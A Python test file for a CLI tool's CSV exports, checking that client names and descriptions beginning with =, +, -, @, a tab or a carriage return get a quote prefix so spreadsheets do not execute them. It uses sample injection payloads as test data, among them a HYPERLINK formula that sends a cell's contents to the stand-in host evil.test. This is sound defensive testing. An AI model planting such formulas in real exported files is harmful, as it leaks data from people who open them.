"""CSV formula injection: every CSV socket writes (`plan show|diff|preview --csv`) is safe to
open in a spreadsheet. A text cell starting with =, +, -, @, a tab or a carriage return is
prefixed with a single quote (OWASP's rule); amounts and counts are never changed.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from socketcli.cli.output import csv_text
from tests.conftest import StoreMadeBy
from tests.runner import Socket

FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Click me")'
NAMES = {
    "EQ": FORMULA,
    "PLUS": "+44 Trading Ltd",
    "MINUS": "-2+3 Ltd",
    "AT": "@SUM(A1:A9) Ltd",
    "PLAIN": "Plain Ltd",
}


def _practice() -> list[tuple[str, ...]]:
    commands: list[tuple[str, ...]] = [
        ("init",),
        ("services", "add", "Bookkeeping", "--method", "monthly", "--account-code", "200"),
    ]
    for reference, name in NAMES.items():
        commands += [
            ("clients", "add", "--", reference, name),  # "--": a name may start with -
            (
                "proposals", "add", f"P-{reference}", "--client", reference,
                "--line", "Bookkeeping=150|=1+1 -cmd @here",
                "--start", "2026-10-01", "--accept",
            ),
        ]  # fmt: skip
    # PLAIN pays less from December: a negative difference in plan diff.
    commands.append(
        ("proposals", "change", "P-PLAIN", "--from", "2026-12", "--set", "Bookkeeping=100")
    )
    return commands


@pytest.fixture
def practice(store_made_by: StoreMadeBy) -> Path:
    """This test's own copy of the practice, as its default store, on this test's engine."""
    return store_made_by("csv-injection", _practice())


def rows(socket: Socket, *args: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(socket.ok(*args, "--csv").stdout)))


def assert_no_formula(table: list[dict[str, str]]) -> None:
    """No cell a spreadsheet would run: text starts with a quote where it would."""
    for row in table:
        for column, cell in row.items():
            if cell[:1] in ("=", "+", "@", "\t", "\r"):
                pytest.fail(f"{column} {cell!r} would be read as a formula")
            if cell.startswith("-"):  # a negative amount is a number, not a formula
                assert column in ("difference", "amount", "previous_amount"), (column, cell)
                float(cell)


def test_plan_show_csv_neutralises_formulas_in_names(socket: Socket, practice: Path) -> None:
    table = rows(socket, "plan", "show")

    assert_no_formula(table)
    clients = {row["reference"]: row["client"] for row in table}
    assert clients == {
        "EQ": "'" + FORMULA,
        "PLUS": "'+44 Trading Ltd",
        "MINUS": "'-2+3 Ltd",
        "AT": "'@SUM(A1:A9) Ltd",
        "PLAIN": "Plain Ltd",
    }
    # The JSON keeps the stored text as it is.
    assert {r["client"] for r in socket.json("plan", "show")["clients"]} == set(NAMES.values())


def test_plan_diff_csv_neutralises_names_and_keeps_negative_amounts(
    socket: Socket, practice: Path
) -> None:
    table = rows(socket, "plan", "diff")

    assert_no_formula(table)
    plain = next(row for row in table if row["reference"] == "PLAIN")
    assert (plain["change"], plain["difference"]) == ("contracted", "-50.00")
    eq = next(row for row in table if row["reference"] == "EQ")
    assert eq["client"] == "'" + FORMULA


def test_plan_preview_csv_neutralises_contacts_and_descriptions(
    socket: Socket, practice: Path
) -> None:
    table = rows(socket, "plan", "preview", "EQ")

    assert_no_formula(table)
    (line,) = table
    assert line["contact"] == "'" + FORMULA
    assert line["description"] == "'=1+1 -cmd @here – Dec 2026"
    assert (line["quantity"], line["line_amount"]) == ("1", "150.00")


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Acme = Co", "Acme = Co"),
        ("", ""),
        ("'quoted", "'quoted"),
    ],
)
def test_a_text_cell_is_prefixed_only_where_a_spreadsheet_would_run_it(
    text: str, safe: str
) -> None:
    assert csv_text(text) == safe
